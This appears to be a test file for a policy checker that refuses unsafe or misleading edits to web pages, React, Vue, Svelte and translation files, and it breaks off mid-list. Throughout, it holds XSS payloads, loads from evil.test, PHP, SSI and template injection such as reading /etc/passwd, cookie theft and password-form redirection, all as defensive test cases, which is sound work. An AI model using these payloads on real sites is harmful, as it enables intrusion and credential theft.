import t from 'tap'
import { newTexts } from '../../page/visible-text.js'
import { html } from '../../test/support/sites.js'
import { policyViolation } from '../content-policy.js'
import { SiteIndex } from '../site-index.js'
import { validateCandidate } from '../validate-candidate.js'

/** Why an edit of a page is refused. `known` is what the file and others state. */
const told = (find: string, replace: string, known = find, path = 'a.html', around = find): string => {
  const text = path === 'a.html' ? html('Page', around) : around
  const violation = policyViolation([{ find, replace, variant: 'b' }], { path, text }, known)
  return violation?.reason ?? 'none'
}

t.test('figures and claims stand in what is known', async (t) => {
  t.equal(told('<p>For teams</p>', '<p>For 900 teams</p>'), 'invented')
  t.equal(
    told('<p>For teams</p>', '<p>For 90 teams</p>', 'since 1990'),
    'invented',
    'a part of another figure',
  )
  t.equal(told('<p>For teams</p>', '<p>For 900 teams</p>', '900 teams use it'), 'none')
  t.equal(told("'Start'", "'Start for free'"), 'invented')
  t.equal(told("'Start'", "'Start for free'", 'It is free'), 'none')
  t.equal(told('<a>Los</a>', '<a>Kostenlos los</a>'), 'invented')
  t.equal(told('<p>Simple</p>', '<p>Trusted by everyone</p>'), 'invented')
  t.equal(told('<a class="p-4">Go</a>', '<a class="p-8">Go</a>'), 'none', 'what is not read is no claim')
})

t.test('a number or an address that the page says can be called or written to, and no other', async (t) => {
  const withLink = (address: string): string =>
    told(
      '<p>Call 030 1234-567 or ask@lumen.test</p>',
      `<p><a href="${address}">Call 030 1234-567</a> or ask@lumen.test</p>`,
    )
  for (const own of ['tel:0301234567', 'tel:+49301234567', 'tel:+390301234567'])
    t.equal(withLink(own), 'none', own)
  t.equal(withLink('mailto:ask@lumen.test'), 'none')
  for (const other of [
    'tel:0301234568',
    'tel:+49301234568',
    'tel:+900301234567',
    'tel:1234',
    'mailto:ask@evil.test',
    'mailto:ask@lumen.test?bcc=a@evil.test',
    'sms:0301234567',
  ])
    t.equal(withLink(other), 'unsafe', other)
  const two = '<p>(030) 1234-567 / (030) 1234-569</p>'
  const second = two.replace('(030) 1234-569', '<a href="tel:0301234569">(030) 1234-569</a>')
  t.equal(told(two, second), 'none', 'the second of a line')
  const mail = '<p>ask@flowers.test</p>'
  const link = '<p><a href="mailto:ask@flowers.test">ask@flowers.test</a></p>'
  t.equal(told(mail, link), 'none', 'no @flow for a compiler')
  t.equal(told(mail, link.replace('>ask@flowers.test<', '>// @flow<')), 'unsafe')
})

t.test('a service or a chat that a file of the site links to, and no other address', async (t) => {
  const withLink = (address: string, known: string): string =>
    told(
      '<p>Book a table</p>',
      `<p><a href="${address}">Book a table</a></p>`,
      `<p>Book a table</p>\n${known}`,
    )
  const calendar = 'https://calendly.com/lumen'
  t.equal(withLink(calendar, calendar), 'none')
  t.equal(withLink('tel:+15550102030', 'tel:+15550102030'), 'none')
  const chat = 'https://wa.me/15550102030?text=Hello'
  t.equal(withLink(chat, chat), 'none')
  t.equal(withLink('https://calendly.com/evil', calendar), 'unsafe')
  t.equal(withLink('https://evil.test/x', 'https://evil.test/x'), 'unsafe', 'not a kind that is known')
})

t.test('a map of the place that the page says, and no other', async (t) => {
  const withLink = (address: string): string => {
    const place = '<p>Weberstraße 50<br>45879 Gelsenkirchen</p>'
    return told(place, `<p><a href="${address}">Weberstraße 50<br>45879 Gelsenkirchen</a></p>`)
  }
  const map = 'https://www.google.com/maps'
  t.equal(withLink(`${map}/dir/?api=1&destination=Weberstra%C3%9Fe+50%2C+45879+Gelsenkirchen`), 'none')
  t.equal(withLink(`${map}/search/?api=1&query=50%2C+45879+Gelsenkirchen`), 'none')
  for (const other of [
    `${map}/dir/?api=1&destination=Weberstra%C3%9Fe+51%2C+45879+Gelsenkirchen`,
    `${map}/dir/?api=1&destination=Gelsenkirchen`,
    `${map}/dir/?api=1&destination=50%2C+45879+Gelsenkirchen&utm=1`,
    'https://www.google.com/url?q=Weberstra%C3%9Fe+50%2C+45879+Gelsenkirchen',
    'https://maps.evil.test/dir/?api=1&destination=50%2C+45879+Gelsenkirchen',
  ])
    t.equal(withLink(other), 'unsafe', other)
})

t.test('texts that press or shame a visitor are refused, whatever the code states', async (t) => {
  for (const words of [
    'Hurry, join now',
    'Only 3 left',
    "No thanks, I don't like saving",
    'Nur noch 3 Plätze',
    'Dernière chance',
  ])
    t.equal(told('<p>Join</p>', `<p>${words}</p>`, words), 'dark_pattern', words)
})

const PAGE = `<nav><a class="btn" href="/join?a=1&amp;b=2">Join</a></nav>
<form action="/join" method="post"><input type="email" name="email"><input type="password" name="password">
<input type="hidden" name="price" value="90"><button onclick="track()">Send</button></form>
<input type="checkbox"><p>Come in</p><img src="/cup.png" alt="A cup"><iframe src="https://maps.test/"></iframe>
<script>function track() { fetch('/t') }</script>`

/** Edits of "<p>Come in</p>", or of what is named, which somebody with bad intentions could write. */
const DANGEROUS: readonly (string | [find: string, replace: string])[] = [
  '<p>Come in<script>go()</script></p>',
  '<p>Come in</p><SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<svg/onload=alert(1)>',
  '<p onclick="go()">Come in</p>',
  '<p oNcLiCk=go()>Come in</p>',
  '<p onclick="track()">Come in</p>'.replace('track', 'window.track'),
  '<a href="javascript:go()">Come in</a>',
  '<a href="jav&#x61;script:go()">Come in</a>',
  '<a href=" java\nscript:go()">Come in</a>',
  '<a href="data:text/html,x">Come in</a>',
  '<a href=//evil.test/>Come in</a>',
  '<a href="\\\\evil.test">Come in</a>',
  '<a href="/\\evil.test">Come in</a>',
  '<a href="https:evil.test">Come in</a>',
  '<a href="/join" ping="//evil.test">Come in</a>',
  '<img src=//evil.test/i.png alt="A cup">',
  '<img src="/cup.png" srcset="//evil.test/i.png 1x" alt="A cup">',
  '<p style="background:url(//evil.test)">Come in</p>',
  '<p>Come in</p><style>@import "//evil.test"</style>',
  '<p>Come in</p><link rel=stylesheet href="/join">',
  '<p>Come in</p><meta http-equiv=refresh content="url=//evil.test">',
  '<p>Come in</p><base href="//evil.test">',
  '<p>Come in</p><iframe srcdoc="<script>go()</script>"></iframe>',
  '<p>Come in</p><object data="/join"></object>',
  '<p>Come in</p><form action="//evil.test"><button>Go</button></form>',
  '<p>Come in</p><form action="/join"><button>Go</button></form>',
  '<p>Come in</p><input type="password" name="password">',
  '<button formaction="//evil.test">Go</button>',
  '<a id="location" href="/join">Come in</a>',
  '<p data-hx-get="//evil.test">Come in</p>',
  ['90', '1'],
  ['/cup.png', '//evil.test/cup.png'],
  ['/cup.png', '/cup.png" onerror="go()'],
  ['track()', 'track();go()'],
  ['https://maps.test/', 'https://maps.test.evil.test/'],
  '<p>Come in</p><button formaction="https://maps.test/">Go</button>',
  // Code that servers and template engines run.
  '<p>Come in</p><!--#exec cmd="id" -->',
  '<p>Come in</p><?php system("id") ?>',
  '<p><%= process.env %></p>',
  '<p>{{ constructor.constructor("go()")() }}</p>',
  '<p>{% include "/etc/passwd" %}</p>',
  '<p>#{7*7}</p>',
  '<p>[[x]]</p>',
  '<p class="bg-[url(//evil.test)]">Come in</p>',
  '<p>\u202eCome in</p>',
  '<p>Come\u200b in</p>',
  // Parts with which the page protects its visitors.
  ['<meta charset="utf-8">', ''],
  ["<script>function track() { fetch('/t') }</script>", ''],
  ['type="password"', 'type="text"'],
  ['name="password"', 'name="email"'],
  ['<input type="checkbox">', '<input type="checkbox" checked>'],
]

t.test(
  'an edit of a page brings in no element, attribute or address that the page does not have',
  async (t) => {
    for (const one of DANGEROUS) {
      const [find, replace] = typeof one === 'string' ? ['<p>Come in</p>', one] : one
      t.equal(told(find, replace, PAGE, 'a.html', PAGE), 'unsafe', replace)
    }
    for (const replace of [
      '<p>Come on in</p>',
      '<p class="lead"><strong>Come in</strong></p>',
      '<p>Come in</p><a class="btn" href="/join?a=1&b=2">Join</a>',
      '<p>Come in</p><a href="/">Home</a>',
      '<details><summary>Come in</summary><p>Come in</p></details>',
    ])
      t.equal(told('<p>Come in</p>', replace, PAGE, 'a.html', PAGE), 'none', replace)
    t.equal(told('A cup', 'A cup of tea', PAGE, 'a.html', PAGE), 'none')
  },
)

const JSX = `import { useState } from 'react'
import { save } from './api'
export function Join({ text, user }) {
  const [email, setEmail] = useState('')
  const [again, setAgain] = useState('')
  useEffect(() => { setTimeout(() => setEmail('x'), 2000) }, [])
  const load = () => fetch('/api/user')
  return <form onSubmit={() => save({ email })}>
    <input type="email" value={email} onChange={(e) => setEmail(e.target.value)} />
    <input value={again} onChange={(e) => setAgain(e.target.value)} />
    <a href="/join" className="md:flex">Join</a><p>Come in</p>
  </form>
}
`
const INPUT = 'onChange={(e) => setEmail(e.target.value)}'
const DANGEROUS_CODE: readonly [find: string, replace: string][] = [
  ['<p>Come in</p>', "<p>{fetch('//evil.test')}</p>"],
  ['<p>Come in</p>', "<p>{(fetch)('//evil.test')}</p>"],
  ['<p>Come in</p>', "<p>{(0, fetch)('/x')}</p>"],
  ['<p>Come in</p>', "<p>{fetch('/' + '/evil.test')}</p>"],
  ['<p>Come in</p>', `<p>{fetch(\`/api/user?\${email}\`)}</p>`],
  ['<p>Come in</p>', "<p>{[].constructor.constructor('go()')()}</p>"],
  ['<p>Come in</p>', "<p>{text['constr' + 'uctor']}</p>"],
  ['<p>Come in</p>', '<p>{document.cookie}</p>'],
  ['<p>Come in</p>', '<p dangerouslySetInnerHTML={{ __html: text }} />'],
  ['<p>Come in</p>', '<p style={{ display: text }}>Come in</p>'],
  ['<p>Come in</p>', '<p {...user}>Come in</p>'],
  ['<p>Come in</p>', '<a href={text}>Come in</a>'],
  ['<p>Come in</p>', '<p onClick={() => save({ email })}>Come in</p>'],
  ['<p>Come in</p>', '<IFRAME src="/join" />'],
  ['<p>Come in</p>', '<input type="password" onChange={(e) => setEmail(e.target.value)} />'],
  ['"/join"', '"javascript:go()"'],
  ["'x'", "'<img src=x onerror=go()>'"],
  [INPUT, "onChange={() => { self.location = '/join' }}"],
  [INPUT, "onChange={(e) => { e.target.value = 'x' }}"],
  [INPUT, 'onChange={(e) => save(eval(e.target.value))}'],
  [INPUT, 'onChange={() => { while (true) {} }}'],
  [INPUT, 'onChange={() => { throw email }}'],
  ["'./api'", "'other-package'"],
  ["import { save } from './api'", "import 'other'\nimport { save } from './api'"],
  ["import { save } from './api'", "export * from './secrets'\nimport { save } from './api'"],
  ["import { useState } from 'react'", "'use server'\nimport { useState } from 'react'"],
  ["import { save } from './api'", "/** @jsxImportSource evil */\nimport { save } from './api'"],
  ["import { save } from './api'", "//# sourceMappingURL=x\nimport { save } from './api'"],
]

t.test('code uses only what its file names, calls and sets', async (t) => {
  for (const [find, replace] of DANGEROUS_CODE)
    t.equal(told(find, replace, JSX, 'a.jsx', JSX), 'unsafe', replace)
  for (const [find, replace] of [
    ['<p>Come in</p>', '<><p>Come in</p><a href="/join" className="md:grid">Join</a></>'],
    ['2000', '30000'],
    [INPUT, 'onChange={(e) => { setEmail(e.target.value); setAgain(e.target.value) }}'],
    ["'x'", "'y'"],
  ] as const)
    t.equal(told(find, replace, JSX, 'a.jsx', JSX), 'none', replace)
})

t.test('the same of Vue, Svelte, and files of texts', async (t) => {
  const vue = `<script setup>\nimport { ref } from 'vue'\nconst email = ref('')\nfunction join() { fetch('/api') }\n</script>\n
<template><main><input v-model="email"><button @click="join()">Join</button><p>Come in</p></main></template>\n`
  const svelte = `<script>\n  let email = $state('')\n  function join() { fetch('/api') }\n</script>\n
<main><input bind:value={email}><button onclick={() => join()}>Join</button><p>Come in</p></main>\n`
  for (const replace of [
    '<p v-html="email"></p>',
    '<p @click="join()">Come in</p>',
    '<p>{{ window.name }}</p>',
    '<component is="script" />',
    '<IFRAME src="/x" />',
    '<Iframe src="/x" />',
    '<a :href="email">x</a>',
  ])
    t.equal(told('<p>Come in</p>', replace, vue, 'a.vue', vue), 'unsafe', replace)
  t.equal(told('<p>Come in</p>', '<p>{{ email }}</p>', vue, 'a.vue', vue), 'none')
  for (const replace of [
    '<p>{@html email}</p>',
    '<svelte:element this="script" />',
    '<p>{eval(email)}</p>',
    '<p use:join>Come in</p>',
    '<p style:color={email}>x</p>',
  ])
    t.equal(told('<p>Come in</p>', replace, svelte, 'a.svelte', svelte), 'unsafe', replace)
  t.equal(told('<p>Come in</p>', '<p>{email}</p>', svelte, 'a.svelte', svelte), 'none')
  for (const [find, replace] of [
    ['<script setup>', '<script setup src="./other.js">'],
    ['<template>', '<template lang="pug">'],
    ['</template>', '</template>\n<style>p { margin: 0 }</style>'],
    ['</template>', '</template>\n<i18n>x</i18n>'],
    ["from 'vue'", "from 'other'"],
    ["ref('')", "ref('')\nwhile (email) {}"],
  ] as const)
    t.equal(told(find, replace, vue, 'a.vue', vue), 'unsafe', replace)
  for (const [find, replace] of [
    ['<script>', '<script module>'],
    ['<script>', '<script src="./other.js">'],
    ['<main>', '<svelte:options accessors />\n<main>'],
  ] as const)
    t.equal(told(find, replace, svelte, 'a.svelte', svelte), 'unsafe', replace)
  const texts = '{ "join": "Join" }'
  for (const replace of [
    '"\\u003cimg src=x onerror=go()\\u003e"',
    '"\\/\\/evil.test"',
    '"Join", "__proto__": { "x": "y" }',
    '"mailto:a@evil.test"',
  ])
    t.equal(told('"Join"', replace, '003', 'en.json', texts), 'unsafe', replace)
  t.equal(told('"Join"', '"Join", "now": "<img src=x onerror=go()>"', texts, 'en.json', texts), 'unsafe')
  t.equal(told('"Join"', '"Join", "now": "https://evil.test"', texts, 'en.json', texts), 'unsafe')
  t.equal(told('"Join"', '"Join", "now": "Join us"', texts, 'en.json', texts), 'none')
  const lines = 'en:\n  join: Join\n  pay: Pay %{count} <b>now</b>\n  twice: one\n  twice: !own two\n'
  const inYaml = (replace: string): string => told('  join: Join\n', replace, `003 ${lines}`, 'en.yml', lines)
  t.equal(inYaml('  join: Join\n  now: Join us, <b>you</b>\n'), 'none')
  for (const now of ['<img src=x>', '"\\u003cimg src=x>"', 'https://evil.test', '{{ x }}', '[', '&a [*a]'])
    t.equal(inYaml(`  join: Join\n  now: ${now}\n`), 'unsafe', now)
  t.equal(inYaml('  join: Join us\n'), 'unsafe', 'which everybody would see')
})

/** Figures of the edits below, so that they are not told for them. */
const FIGURES = ' 0 1 3 7 115 202 0001'

/** A separator of lines would cut the name of the assertion. */
const shown = (text: string): string => text.replaceAll(/[^ -~]/g, '?')

t.test('what stands in a comment, a template or a text that a page shows as code', async (t) => {
  const page = '<!-- hello --><div id="app"><p>{{ name }}</p><p>Come in</p></div><a href="about.me">About</a>'
  for (const [find, replace] of [
    ['{{ name }}', '{{ constructor.constructor("go()")() }}'],
    ['name }}', 'name + go() }}'],
    ['<!-- hello -->', '<!--#exec cmd="id" -->'],
    [' hello ', '#exec cmd="id" '],
    ...[
      '<p>{&#123; go() }}</p>',
      '<p>{&lbrace; go() &rcub;}</p>',
      '<p>*{7*7}</p>',
      '<p>{php}go(){/php}</p>',
      '<p>[#if x]</p>',
      '<p><#assign x=1></p>',
      '<p>#set($x=1)</p>',
      '<p>@Html.Raw(x)</p>',
      '<p>Come\u2028in</p>',
      '<p>Come &#x202e;in</p>',
      '<p>Come\u3164in</p>',
      '<p title="&lt;img src=x onerror=go()&gt;">Come in</p>',
      '<a href="https:about.me">Come in</a>',
      '<p class="bg-[u\\72l(https://evil.test)]">Come in</p>',
      '<p class="bg-[paint(x)]">Come in</p>',
    ].map((replace): [string, string] => ['<p>Come in</p>', replace]),
  ] as const)
    t.equal(told(find, replace, page + FIGURES, 'a.html', page), 'unsafe', shown(replace))
  const forms = `<form action="/login"><input name="email"><input type="password" name="password"></form>
<form action="https://news.test/"><input name="nick"></form>`
  const swapped = forms
    .replace('/login', 'x')
    .replace('https://news.test/', '/login')
    .replace('x', 'https://news.test/')
  t.equal(told(forms, swapped, forms, 'a.html', forms), 'unsafe', 'a password for another address')
})

const CODE = `import Script from 'next/script'
import { save, track, sanitize } from './api'
const html = 'Hi there'
const url = '/join'
const plans = [{ name: 'Basic', icon: Join, cta: 'Choose' }]
// a comment
export function Join({ raw, items }) {
  const [email, setEmail] = useState('')
  const [password, setPassword] = useState('')
  const clean = sanitize(raw)
  const payload = { email, plan: 'basic' }
  useEffect(() => { setEmail('x') }, [])
  function submit(e) {
    e.preventDefault()
    track('signup', { email })
    save({ email, password })
  }
  while (items.pop()) { track('x') }
  return <form onSubmit={submit}>
    <Script id="ga">{\`console.log('x')\`}</Script>
    <h2 dangerouslySetInnerHTML={{ __html: html }} />
    <input type="email" value={email} /><input type="password" value={password} />
    <a href={url}>Join</a><p>Come in</p><p>{email}</p>{items.length === 0 && <p>Empty</p>}
    {plans.map((one) => <li key={one.name} title={one.cta}>{one.cta}<b>Go</b></li>)}
  </form>
}
`

t.test('code says only what it says already, at the same place or deeper', async (t) => {
  for (const [find, replace] of [
    ["'Hi there'", '`\\x3cimg src=x onerror=go()>`'],
    ["'Hi there'", "'<' + 'img src=x onerror=go()>'"],
    ["'Hi there'", 'raw'],
    ["'/join'", "'java' + 'script:go()'"],
    ["'/join'", "'/' + '/evil.test'"],
    ["'/join'", "'/\\t/evil.test'"],
    ["'/join'", "'java\\nscript:go()'"],
    ["'/join'", "'/admin'"],
    ["'/join'", "'\\u{202e}x'"],
    ['sanitize(raw)', 'raw'],
    ['sanitize(raw)', 'sanitize && raw'],
    ["'signup', { email }", "'signup', { email, password }"],
    ["'signup', { email }", 'password'],
    ['    e.preventDefault()\n', ''],
    ["{ email, plan: 'basic' }", "{ email: password, plan: 'basic' }"],
    ["{ email, plan: 'basic' }", '{ get email() { return password } }'],
    ["{ email, plan: 'basic' }", "{ ['email']: password }"],
    ["{ email, plan: 'basic' }", 'null'],
    ["{ email, plan: 'basic' }", "{ email, plan: 'basic' }; setEmail('x')"],
    ['items.pop()', 'true'],
    ["'x') }, [])", "'x') })"],
    ["useEffect(() => { setEmail('x') }, [])", "if (email) useEffect(() => { setEmail('x') }, [])"],
    ["console.log('x')", 'go(document.cookie)'],
    ['// a comment', '// @ts-nocheck'],
    [' a comment', '# sourceMappingURL=//evil.test'],
    ['track, sanitize', 'track as sanitize, sanitize as track'],
    ['track, sanitize', 'track'],
    ['export function', 'function'],
    ['export function', 'export async function'],
    ['icon: Join', 'icon: save'],
    ['type="email" value={email}', 'type="email" value={password}'],
    ['<b>Go</b>', '<b>{one.icon.name}</b>'],
    ...[
      '<p>{submit}</p>',
      '<p>{submit()}</p>',
      '<p>{setEmail("x")}</p>',
      '<p>{payload}</p>',
      '<p title={payload}>x</p>',
      '<p className={submit}>x</p>',
      '<p hidden={save({ email, password })}>x</p>',
      '<p>{save`x`}</p>',
      '<p>{new save(email)}</p>',
      '<p>{class {}}</p>',
      '<p>{one.cta}</p>',
      '<p>{{ email }}</p>',
      '<p>{/(a+)+$/.test(email)}</p>',
      '<li key={one.name}>x</li>',
      '<Script>{`go()`}</Script>',
      '<input>x</input>',
    ].map((replace): [string, string] => ['<p>Come in</p>', replace]),
  ] as const)
    t.equal(told(find, replace, CODE + FIGURES, 'a.jsx', CODE), 'unsafe', replace)
  for (const [find, replace] of [
    ['<p>Come in</p>', `<p>{email ? "Go on" : \`Hi \${email}\`}</p>`],
    ['<p>Come in</p>', '{items.length > 0 && !email && <p>{items.length} items</p>}'],
    ['<p>Come in</p>', '<section><h2>Hi {email}</h2><label>Come in</label></section>'],
    [
      '<b>Go</b>',
      `{one.name === "Basic" ? <b>{one.name}</b> : <i aria-label={\`Go \${one.name}\`}>{one.cta}</i>}`,
    ],
    ["cta: 'Choose' }", "cta: 'Start' }, { name: 'Team', icon: Join, cta: 'Talk to us' }"],
    ["plan: 'basic'", "plan: 'team'"],
    ["track('x')", "track('x')"],
  ] as const)
    t.equal(told(find, replace, CODE + FIGURES, 'a.jsx', CODE), 'none', replace)
  const script = `document.querySelector('.x').addEventListener('click', (e) => { location.href = '/buy' })
const el = document.createElement('p')
el.innerHTML = 'Hello'
el.textContent = 'Buy'
setInterval(go, 60000)
`
  for (const [find, replace] of [
    ["'.x'", "'.y'"],
    ["'click'", "'mouseover'"],
    ["'/buy'", "'buy'"],
    ["'p'", "'script'"],
    ["'Hello'", 'el'],
    ['60000', '1'],
    ["textContent = 'Buy'", "innerHTML = 'Buy'"],
  ] as const)
    t.equal(told(find, replace, script + FIGURES, 'a.ts', script), 'unsafe', replace)
  t.equal(told("'Buy'", "'Buy now'", script, 'a.ts', script), 'none')
})

t.test('the parts of Vue and Svelte, texts, and files of other kinds', async (t) => {
  const vue = `<script setup>\nconst email = ref('')\nconst password = ref('')\nconst clean = purify(raw)\n</script>\n
<template><main><Card v-bind="all" /><div v-html="clean"></div><li v-for="one in list" :key="one.id">{{ one.name }}</li>
<input v-model="email" type="email"><input v-model="password" type="password"><p>{{ $t('a') }}</p><p>Come in</p></main></template>\n`
  for (const [find, replace] of [
    ['purify(raw)', 'raw'],
    ['v-html="clean"', 'v-html="raw"'],
    ['v-model="email" type', 'v-model="password" type'],
    ...[
      '<p>{{ one.name }}</p>',
      '<p :title="purify(raw)">x</p>',
      '<p v-if="(email = 1)">x</p>',
      '<p v-bind="all">x</p>',
    ].map((replace): [string, string] => ['<p>Come in</p>', replace]),
  ] as const)
    t.equal(told(find, replace, vue + FIGURES, 'a.vue', vue), 'unsafe', replace)
  for (const replace of [
    '<p v-if="email">Hi</p>',
    '<button :disabled="!email">Go</button>',
    "<p>{{ $t('b') }}</p>",
  ])
    t.equal(
      told(
        '<p>Come in</p>',
        replace,
        `${vue}<button>`,
        'a.vue',
        `${vue.replace('<p>{{ $t', '<button>A</button><p>{{ $t')}`,
      ),
      'none',
      replace,
    )
  const svelte = `<script>\n  let { data } = $props()\n  const clean = purify(data.html)\n</script>\n
{@html clean}{#each data.items as item}<b>{item.name}</b>{/each}<p>Come in</p>\n`
  for (const [find, replace] of [
    ['{@html clean}', '{@html data.html}'],
    ['purify(data.html)', 'data.html'],
    ...['<p>{item.name}</p>', '{#if (data.items = 1)}x{/if}', '{#each data.html as x}{x}{/each}'].map(
      (replace): [string, string] => ['<p>Come in</p>', replace],
    ),
  ] as const)
    t.equal(told(find, replace, svelte + FIGURES, 'a.svelte', svelte), 'unsafe', replace)
  t.equal(
    told('<p>Come in</p>', '{#if data.items.length > 0}<p>In</p>{/if}', svelte + FIGURES, 'a.svelte', svelte),
    'none',
  )
  const texts =
    '{ "a": "Plan", "hi": "Hi {name}", "n": "{n, plural, one {# item} other {# items}}", "url": "/join", "mail": "a@b.test", "x": { "y": "z" }, "on": true, "rich": "<b>it</b>" }'
  for (const [find, replace] of [
    ['"/join"', '"/admin"'],
    ['"a@b.test"', '"x@evil.test"'],
    ['"Plan"', '"Our plan"'],
    ['"a": "Plan", ', ''],
    ['{ "y": "z" }', '"z"'],
    ['"z"', 'null'],
    ['true', '"true"'],
    ...[
      'java\\tscript:go()',
      '\\u0001javascript:go()',
      '<b onclick=go()>x</b>',
      'Plan {user}',
      'Plan {name',
      'Plan @:url',
      'Plan $t(url)',
      'Pl\\u202ean',
    ].map((one): [string, string] => ['"Plan"', `"Plan", "new": "${one}"`]),
  ] as const)
    t.equal(told(find, replace, texts + FIGURES, 'en.json', texts), 'unsafe', replace)
  for (const one of ['Welcome back, {name}!', 'Read <b>all of it</b> &amp; more', 'Plan: together'])
    t.equal(told('"Plan"', `"Plan", "b": "${one}"`, texts, 'en.json', texts), 'none', one)
  for (const path of ['a.css', 'a.svg', 'a.njk', 'a.mdx'])
    t.equal(told('Hi', 'Hello', '', path, 'Hi'), 'unsafe', `${path} is read by no parser`)
})

t.test('a variant is judged together with the edits for everybody', async (t) => {
  const text = html('Page', '<p>One</p><p>Two</p>')
  const edits = [
    { find: '<p>One</p>', replace: '<p>One</p><p title="' },
    { find: '<p>Two</p>', replace: '<p>Two" onclick="go()"></p>', variant: 'b' },
  ]
  t.equal(policyViolation(edits, { path: 'a.html', text }, text)?.reason, 'unsafe')
})

t.test('nothing is taken from people who hear the page or use the keyboard', async (t) => {
  t.equal(told('<img alt="A cup"><p>Tea</p>', '<img alt=""><p>Tea</p>'), 'unsafe')
  t.equal(told('<label for="a">Name</label><input id="a">', '<input id="a" placeholder="Name">'), 'unsafe')
  t.equal(told('<button aria-label="Close">x</button>', '<button>x</button>'), 'unsafe')
  t.equal(told('<a href="/a">A</a>', '<a href="/a" tabindex="3">A</a>'), 'unsafe')
  t.equal(told('<a href="/a">A</a>', '<a href="/a" style="outline:none">A</a>'), 'unsafe')
})

const CARDS = `import { useState } from 'react'
import { formatPrice } from './format'
export function Cards({ items, guests, isOwn, onMore }) {
  const [open, setOpen] = useState(false)
  if (guests > 9) return null
  return <ul>{items.map((item) => {
    const price = item.price * 2
    return <li className="card" key={item.id}><b>{item.name}</b><p>{price}</p><Row label="Delivery" value="Standard: 2 days" open={["a"]} />
      {!isOwn && price && (<button onClick={() => onMore(item.id)}>More</button>)}</li>
  })}</ul>
}
`
/** Edits of text, markup and conditions inside of a callback, which a product team would want. */
const JUST: readonly [find: string, replace: string][] = [
  ['<b>{item.name}</b>', '<b>{item.name} for your home</b>'],
  ['<p>{price}</p>', '<p>{price.toFixed(2)} each</p>'],
  ['<p>{price}</p>', '<p>{Math.round(price / item.price)} times</p>'],
  ['<p>{price}</p>', `<p>{\`\${item.price} each\`}</p>`],
  ['<p>{price}</p>', '<p>{price > 2 ? "Dear" : "Fair"}</p>'],
  ['<p>{price}</p>', '<><p>{price}</p>{!isOwn && guests && <p className="card">{guests} guests</p>}</>'],
  ['<p>{price}</p>', '<p>{items.length > 1 && items[0].name.includes("Lamp") && price}</p>'],
  ['<p>{price}</p>', '<p>{item.price}</p>'],
  ['<p>{price}</p>', '<p>{item.name.startsWith("/lamps") ? "Lamp" : price}</p>'],
  ['value="Standard: 2 days"', 'value="Standard delivery: 2 days"'],
  ['label="Delivery"', 'label="Delivery to you" description="Standard: 2 days"'],
  ['label="Delivery"', 'label="Delivery" icon="i-lucide-truck"'],
  ['open={["a"]}', 'open={["a", "b"]}'],
]

t.test('texts, pure methods and conditions over names in scope are just, also in callbacks', async (t) => {
  for (const [find, replace] of JUST) t.equal(told(find, replace, CARDS, 'a.jsx', CARDS), 'none', replace)
  for (const [find, replace] of [
    ['<p>{price}</p>', '<p>{price.toFixed(200)}</p>'],
    ['<p>{price}</p>', '<p>{items.reverse()}</p>'],
    ['<p>{price}</p>', '<p>{items["constructor"]}</p>'],
    ['<p>{price}</p>', '<p>{String(item.constructor)}</p>'],
    ['<p>{price}</p>', '<p>{items}</p>'],
    ['<p>{price}</p>', `<p>{\`\${onMore(item.id)}\`}</p>`],
    ['<p>{price}</p>', '<p>{Math.max(onMore(1), 2)}</p>'],
    ['onMore(item.id)', 'onMore(item.price)'],
    ['label="Delivery"', 'label="Delivery" href="Go to evil"'],
    ['value="Standard: 2 days"', 'value="javascript: go to"'],
    ['open={["a"]}', 'open={items}'],
  ] as const)
    t.equal(told(find, replace, CARDS, 'a.jsx', CARDS), 'unsafe', replace)
  const vue = `<script setup>\nconst bedOptions = []\nconst title = ''\n</script>\n<template><main><p v-if="title">{{ bedOptions.length }}</p><UAlert title="Paid" /><p>Choose a bed</p></main></template>`
  for (const replace of [
    '<p v-if="bedOptions.length > 1">Choose a bed</p>',
    '<p>{{ bedOptions[0]?.title }}</p>',
  ])
    t.equal(told('<p>Choose a bed</p>', replace, vue, 'a.vue', vue), 'none', replace)
  t.equal(
    told('title="Paid"', 'title="Paid" description="Your order is kept"', vue, 'a.vue', vue),
    'none',
    'a text of a component',
  )
})

t.test('what is read with `?.` may be read with `.` if the code takes its object as given', (t) => {
  const quiz = (more: string): string =>
    `export const Quiz = ({ chosen }) => <p title={chosen?.face?.part}>{chosen?.face}${more}<b>Next</b></p>`
  const given = quiz('{chosen.body}')
  const read = (text: string, by: string): string => told('<b>', `<b hidden={!${by}}>`, text, 'a.jsx', text)
  t.equal(read(given, 'chosen.face'), 'none')
  t.equal(read(given, 'chosen?.body'), 'none')
  t.equal(read(quiz(''), 'chosen.face'), 'unsafe', 'it may be missing')
  t.equal(read(given, 'chosen.face.part'), 'unsafe', 'the face may be missing')
  t.equal(read(given, 'chosen.hands'), 'unsafe', 'the file does not have it')
  t.end()
})

const LISTS = `export function List({ items, chosen, onMore }) {
  const { kind } = chosen
  for (const one of items) if (one.name) chosen.push(one)
  if (chosen.length === 0) { const empty = 'none'; return <p title={empty}>Nothing</p> }
  return <ul>{chosen.map((item) => <li key={item.id}>{item.name}<Card {...item} size="big" /></li>)}<b>More</b>
    <button onClick={() => onMore(items.map((one) => one.id))}>All</button><i title={kind.sort}>x</i></ul>
}
`

t.test('lists may be filtered, cut and shown by functions that only compute', async (t) => {
  const list = (replace: string, find = '<b>More</b>'): string =>
    told(find, replace, `${LISTS} 1`, 'a.jsx', LISTS)
  for (const replace of [
    '<>{items.map((item, index) => index < 3 && <li key={item.id}>{item.name}</li>)}</>',
    '<>{items.filter((item, at) => at < 3).map((one) => { return <Card {...one} size="big" /> })}</>',
    '<>{items.slice(0, 3).map(({ name, id }) => <li key={id}>{name}</li>)}</>',
    '<b>{items.filter((one) => one.name).length > 3 ? "Many" : "Few"}</b>',
    '<b>{items.some((one) => one.name === "Lamp") && "Lamps too"}</b>',
    '<b>{items.every(function (one) { return one.name }) ? "All" : "Some"}</b>',
  ])
    t.equal(told('<b>More</b>', replace, `${LISTS} 0 3`, 'a.jsx', LISTS), 'none', replace)
  for (const replace of [
    '<>{items.map((item) => <li onClick={() => onMore(item)}>{item.name}</li>)}</>',
    '<>{items.map((item) => { onMore(item); return <li>{item.name}</li> })}</>',
    '<>{items.map(async (item) => <li>{item.name}</li>)}</>',
    '<>{items.map((item, at, all) => <li>{item.name}</li>)}</>',
    '<>{items.map((item = onMore(1)) => <li>{item.name}</li>)}</>',
    '<>{items.map((item) => onMore(item))}</>',
    '<>{items.map((item) => item)}</>',
    '<>{items.map((item) => <li>{item.price}</li>)}</>',
